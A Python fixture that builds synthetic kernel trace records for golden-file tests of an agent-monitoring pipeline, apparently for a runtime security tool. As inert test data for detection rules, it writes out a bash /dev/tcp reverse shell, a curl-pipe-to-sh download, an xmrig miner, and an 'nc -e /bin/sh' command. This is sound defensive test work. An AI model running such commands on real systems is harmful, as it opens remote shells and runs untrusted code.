"""A fixed set of wire records through the userspace pipeline (decode → enrich → match →
summaries → sinks), with every input that varies between runs pinned: the kernel-to-wall
clock offset, the node name, the boot id in exec ids, the engine's clock, pids above the
kernel's pid limit (never in /proc, so ancestry holes are the same everywhere) and a cgroup
id no cgroup has. What comes out is compared with golden files written by the code before
the per-record cost work (tests/test_pipeline_golden.py): speed-ups must not change a record.

    .venv/bin/python tests/pipeline_golden.py --write    # regenerate (only on purpose)
"""
from __future__ import annotations

import ctypes as C
import io
import socket
import sys
import time
from pathlib import Path

from agenttrace.kernel import wire as E

DATA = Path(__file__).parent / "data"
GOLDEN_JSON = DATA / "pipeline-golden.jsonl"
GOLDEN_OCSF = DATA / "pipeline-golden-ocsf.jsonl"
GOLDEN_SCHEMA = "1.2"         # tracer/schemaver.py when the golden files were written

BASE_PID = 5_000_000          # > PID_MAX_LIMIT (4194304): no such process, ever
AGENT = 0x7A6E_0001_0000_0042  # no cgroup has this id: the resolver names it cgroup-<id>
AGENT2 = 0x7A6E_0001_0000_0043
KT0 = 5_000_000_000_000       # kernel ktime of the first record
OFFSET = 1_780_000_000_000_000_000 - KT0   # wall = ktime + OFFSET


def _hdr(h, typ, pid, agent, kt, comm=b"sh", uid=1000):
    h.type, h.pid, h.tgid, h.uid = typ, pid, pid, uid
    h.ktime = kt
    h.cgroup_id = h.agent_cgroup_id = agent
    h.comm = comm


def _addr(ip: str) -> bytes:
    if ":" in ip:
        return socket.inet_pton(socket.AF_INET6, ip)
    return b"\0" * 10 + b"\xff\xff" + socket.inet_aton(ip)


class _Builder:
    def __init__(self):
        self.kt = KT0
        self.out: list[bytes] = []

    def _t(self) -> int:
        self.kt += 1_234_567      # 1.2 ms apart: some records cross a second
        return self.kt

    def fork(self, parent, child, agent=AGENT, comm=b"sh"):
        f = E.Fork()
        _hdr(f.h, E.EV_FORK, parent, agent, self._t(), comm)
        f.h.size = C.sizeof(f)
        f.child_tgid, f.parent_tgid = child, parent
        self.out.append(bytes(f))

    def exec(self, pid, ppid, filename: str, argv: list[str], agent=AGENT, comm=None, flags=0, policy_id=0):
        x = E.Exec()
        _hdr(x.h, E.EV_EXEC, pid, agent, self._t(), comm or filename.rsplit("/", 1)[-1][:15].encode())
        x.ppid = ppid
        x.filename = filename.encode()
        raw = b"".join(a.encode() + b"\0" for a in argv)
        C.memmove(C.addressof(x) + E.Exec.args.offset, raw, len(raw))
        x.args_len = len(raw)
        x.flags = flags
        x.policy_id = policy_id
        size = C.sizeof(E.Exec) - E.ARGS_MAX + len(raw)
        x.h.size = size
        self.out.append(bytes(x)[:size])

    def exit(self, pid, status=0, agent=AGENT, start=0, comm=b"sh"):
        e = E.Exit()
        _hdr(e.h, E.EV_EXIT, pid, agent, self._t(), comm)
        e.h.size = C.sizeof(e)
        e.exit_code = status
        e.start_ktime = start
        self.out.append(bytes(e))

    def connect(self, pid, cookie, sk, ip, port, proto=6, agent=AGENT, verdict=0, policy_id=0, comm=b"python3"):
        c = E.Connect()
        _hdr(c.h, E.EV_CONNECT, pid, agent, self._t(), comm)
        c.h.size = C.sizeof(c)
        c.cookie, c.sk = cookie, sk
        c.family = socket.AF_INET6 if ":" in ip else socket.AF_INET
        c.protocol, c.dport = proto, port
        c.verdict, c.policy_id = verdict, policy_id
        C.memmove(C.addressof(c) + E.Connect.daddr.offset, _addr(ip), 16)
        self.out.append(bytes(c))

    def result(self, pid, sk, ip, port, sport, result=E.RESULT_ESTABLISHED, agent=AGENT, error=0):
        r = E.ConnResult()
        _hdr(r.h, E.EV_CONN_RESULT, pid, agent, self._t(), b"python3")
        r.h.size = C.sizeof(r)
        fam = socket.AF_INET6 if ":" in ip else socket.AF_INET
        r.sk, r.family, r.sport, r.dport, r.result, r.error = sk, fam, sport, port, result, error
        C.memmove(C.addressof(r) + E.ConnResult.saddr.offset, _addr("::1" if ":" in ip else "10.0.0.5"), 16)
        C.memmove(C.addressof(r) + E.ConnResult.daddr.offset, _addr(ip), 16)
        self.out.append(bytes(r))

    def listen(self, pid, cookie, laddr, lport, what=E.LISTEN_LISTEN, raddr="0.0.0.0", rport=0, agent=AGENT):
        a = E.Listen()
        _hdr(a.h, E.EV_LISTEN, pid, agent, self._t(), b"python3")
        a.h.size = C.sizeof(a)
        a.cookie, a.family, a.protocol = cookie, socket.AF_INET6 if ":" in laddr else socket.AF_INET, 6
        a.lport, a.rport, a.what = lport, rport, what
        C.memmove(C.addressof(a) + E.Listen.laddr.offset, _addr(laddr), 16)
        C.memmove(C.addressof(a) + E.Listen.raddr.offset, _addr(raddr), 16)
        self.out.append(bytes(a))


def records() -> list[bytes]:
    """A shell that starts tools and a Python client, in two agents: long and broken creator
    chains, pid reuse, an exec in an ancestor (cached chains must change), exits before
    children's records, held connects with and without outcomes, every destination scope,
    rules that fire, de-duplicate and open a window."""
    b = _Builder()
    P = BASE_PID
    init, sh = P, P + 1
    b.exec(init, P - 1, "/usr/bin/bash", ["bash", "-l"])           # parent unknown: a hole
    b.fork(init, sh)
    b.exec(sh, init, "/usr/bin/bash", ["bash", "-c", "make test"])
    chain = [sh]
    for i in range(2, 12):                                         # deeper than ANCESTRY_DEPTH
        pid = P + i
        b.fork(chain[-1], pid)
        b.exec(pid, chain[-1], "/usr/bin/make" if i % 2 else "/usr/bin/sh", ["make", f"-j{i}"] if i % 2 else ["sh", "-c", f"step {i}"])
        chain.append(pid)
    leaf = chain[-1]
    py = P + 20
    b.fork(leaf, py)
    b.exec(py, leaf, "/usr/bin/python3", ["python3", "-m", "client", "--retries=3"])
    # tools that rules look at
    for j, (exe, argv) in enumerate([
        ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
        ("/dev/shm/.x", [".x"]),
        ("/usr/bin/bash", ["bash", "-c", "curl -s https://get.example.test/i.sh | sh"]),
        ("/opt/xmrig/xmrig", ["xmrig", "-o", "stratum+tcp://pool.example.test:3333"]),
        ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "9001"]),
        ("/usr/bin/true", ["true"]),
        ("/usr/bin/true", ["true"]),
    ]):
        pid = P + 30 + j
        b.fork(py, pid, comm=b"python3")
        b.exec(pid, py, exe, argv)
        b.exit(pid, status=(j % 3) << 8 if j != 5 else 9, start=b.kt - 1000)
    # the middle of the chain exits and a later pid reuses one of its numbers
    b.exit(chain[5], start=KT0)
    b.exit(chain[6])
    b.fork(chain[4], chain[6])                                     # pid reuse
    b.exec(chain[6], chain[4], "/usr/bin/env", ["env", "A=1", "python3"])
    # an exec in an ancestor of live processes: their chains must show the new image
    b.exec(chain[3], chain[2], "/usr/bin/ninja", ["ninja", "all"])
    b.exec(P + 40, P + 198, "/usr/bin/sleep", ["sleep", "1"], flags=E.EXEC_ARGS_TRUNCATED)   # no fork seen
    b.exec(P + 41, py, "/usr/bin/bash", ["bash", "-c", "x" * 50], flags=E.EXEC_ARGS_TRUNCATED | E.EXEC_ARGS_READ_FAILED)
    b.exec(P + 42, py, "/usr/bin/cloudflared", ["cloudflared", "tunnel"], flags=E.EXEC_KILLED, policy_id=7)
    # network, by the Python client
    cookie, sk = 9000, 0xffff_8880_0000_0000
    for k, (ip, port, proto) in enumerate([
        ("127.0.0.1", 8080, 6), ("127.0.0.1", 8080, 6), ("10.1.2.3", 5432, 6), ("169.254.169.254", 80, 6),
        ("203.0.113.10", 443, 6), ("203.0.113.10", 443, 6), ("203.0.113.11", 3333, 6), ("198.51.100.5", 53, 17),
        ("::1", 9000, 6), ("2001:db8::5", 443, 6), ("fd00::7", 22, 6),
    ]):
        c, s = cookie + k, sk + (k % 4) * 4096
        b.connect(py, c, s, ip, port, proto)
        if proto == 6 and k not in (4, 10):                          # 4 and 10: outcome never comes
            b.result(py, s, ip, port, 40000 + k, result=E.RESULT_REFUSED if k == 2 else E.RESULT_ESTABLISHED,
                     error=111 if k == 2 else 0)
    b.connect(py, cookie + 50, sk + 99, "169.254.169.254", 80, verdict=E.VERDICT_BLOCKED, policy_id=3)
    for k in range(34):                                            # a scan: opens the window
        b.connect(py, cookie + 100 + k, sk + 8192 * (k + 1), f"10.9.{k // 8}.{k % 8 + 1}", 1000 + k)
        b.result(py, sk + 8192 * (k + 1), f"10.9.{k // 8}.{k % 8 + 1}", 1000 + k, 41000 + k, result=E.RESULT_REFUSED)
    b.listen(py, 7000, "0.0.0.0", 8000)
    b.listen(py, 7000, "0.0.0.0", 8000, what=E.LISTEN_ACCEPT, raddr="10.0.0.9", rport=51000)
    b.listen(py, 7001, "127.0.0.1", 8001)
    b.listen(py, 7002, "::", 8002)
    b.listen(py, 7001, "127.0.0.1", 8001, what=E.LISTEN_ACCEPT, raddr="127.0.0.1", rport=51001)
    # a second agent: its own process, and records of a process we never saw start
    other = P + 200
    b.exec(other, P + 199, "/usr/local/bin/agent", ["agent", "--serve"], agent=AGENT2)
    b.connect(other, cookie + 300, sk + 300, "127.0.0.1", 11434, agent=AGENT2)
    b.result(other, sk + 300, "127.0.0.1", 11434, 45000, agent=AGENT2)
    b.connect(P + 250, cookie + 301, sk + 301, "203.0.113.20", 8443, agent=AGENT2, comm=b"curl")
    b.exit(P + 250, agent=AGENT2, comm=b"curl")
    b.exit(P + 251, status=11, agent=AGENT2, comm=b"ghost")
    for pid in reversed(chain + [py]):
        b.exit(pid)
    b.exit(other, agent=AGENT2)
    b.exit(init)
    return b.out


def run(fmt: str = "json", batch: int = 64) -> list[bytes]:
    """The records' JSON lines as the pipeline writes them, then each agent's summary."""
    import agenttrace.enrich.proctable as proctable
    from agenttrace import session
    from agenttrace.clock import FakeClock
    from agenttrace.session.event import Event
    from agenttrace.sinks.outputs import StreamSink

    import agenttrace.session.pipeline as pipeline
    old_boot, old_time = proctable.BOOT_ID, pipeline.time
    proctable.BOOT_ID = "0123456789abcdef"
    try:
        buf = io.BytesIO()
        formatter = None
        if fmt == "ocsf":
            from agenttrace.sinks.ocsf import to_ocsf
            formatter = to_ocsf
        sink = StreamSink(buf, name="golden", formatter=formatter)
        opts = session.SessionOptions(cgroups=[], node="golden-node", mode="monitor")
        rs = session.load_ruleset(opts)
        clock = FakeClock(wall_ns=OFFSET + KT0, monotonic_ns=KT0)
        pipeline.time = _PipelineTime(clock)
        t = session.build(opts, [sink], ruleset=rs, clock=clock)
        t.summaries.node = "golden-node"
        t.enrich.clock_offset = OFFSET
        t.enrich.resync_clock = lambda: None
        t.enrich.exe_ids.identify = _identity
        for i, rec in enumerate(records()):
            t._on_view(memoryview(rec), len(rec))
            clock.advance(0.01)
            if i % batch == batch - 1:
                t._flush()
        t._flush()
        for ev in t.enrich.flush_pending():
            t._process(ev)
        t._alerts(t.engine.flush())
        t._flush()
        for cid in t.summaries.active():          # what finish_agent does, at a fixed time
            rec = t.summaries.finish(cid, "stopped", t_ns=OFFSET + KT0 + 600 * 10**9)
            t._process(Event("summary", OFFSET + KT0, rec, 0, cid))
            t._flush()
        assert t.stage_errors == 0, t.stage_errors
    finally:
        proctable.BOOT_ID, pipeline.time = old_boot, old_time
    return buf.getvalue().splitlines(keepends=True)


def _identity(pid, filename, exe, args):
    """Content identity without reading this machine's binaries (their hashes differ between
    machines); one exec is a known tool by content under another name, as exeid would say."""
    if exe == "/usr/local/bin/agent":
        return {"sha256": "ab" * 32, "name": "ngrok", "category": "tunnel", "names": ["ngrok"], "by": "sha256"}
    if exe.startswith("/usr/bin/"):
        import hashlib
        return {"sha256": hashlib.sha256(exe.encode()).hexdigest()}
    return None


class _PipelineTime:
    """`time` as the pipeline module sees it, with the wall clock (an alert's `alerted`) read
    from the fake clock: the only time the pipeline takes from anywhere but a record."""

    def __init__(self, clock):
        self._clock = clock

    def time_ns(self) -> int:
        return self._clock.wall_ns()

    def __getattr__(self, name):
        return getattr(time, name)


def main(argv: list[str]) -> int:
    if "--write" not in argv:
        print(__doc__)
        return 2
    DATA.mkdir(exist_ok=True)
    GOLDEN_JSON.write_bytes(b"".join(run("json")))
    GOLDEN_OCSF.write_bytes(b"".join(run("ocsf")))
    print(f"wrote {GOLDEN_JSON} and {GOLDEN_OCSF}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
